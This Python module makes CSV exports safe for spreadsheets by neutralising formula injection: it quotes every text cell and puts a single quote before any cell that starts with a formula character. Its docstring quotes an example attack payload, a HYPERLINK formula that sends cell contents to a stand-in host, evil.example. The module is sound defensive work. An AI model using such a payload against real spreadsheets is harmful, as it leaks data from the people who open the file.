"""CSV files that spreadsheets open safely.  Every CSV writer in Attune goes through
:func:`csv_writer`.

Excel, LibreOffice Calc and Google Sheets read a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, so an annotator's free text or an imported
prompt such as ``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run in the
researcher's spreadsheet (CSV or formula injection).  Following OWASP's guidance, such a
cell is prefixed with a single quote, and every text cell is quoted so the quote and the
text stay one cell.  Numbers written by Attune itself are left as they are: a negative
number is not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

#: Leading characters that make a spreadsheet evaluate a cell (OWASP, "CSV Injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` made inert for spreadsheets: text that would start a formula gets a
    leading single quote; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SpreadsheetSafeWriter:
    """A ``csv.writer`` whose every cell passes through :func:`spreadsheet_cell`."""

    def __init__(self, handle, **options: Any):
        # QUOTE_NONNUMERIC: every text cell in double quotes, numbers bare.
        self._writer = csv.writer(handle, quoting=csv.QUOTE_NONNUMERIC, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle, **options: Any) -> SpreadsheetSafeWriter:
    """A CSV writer for files people may open in a spreadsheet (use it for every CSV)."""
    return SpreadsheetSafeWriter(handle, **options)
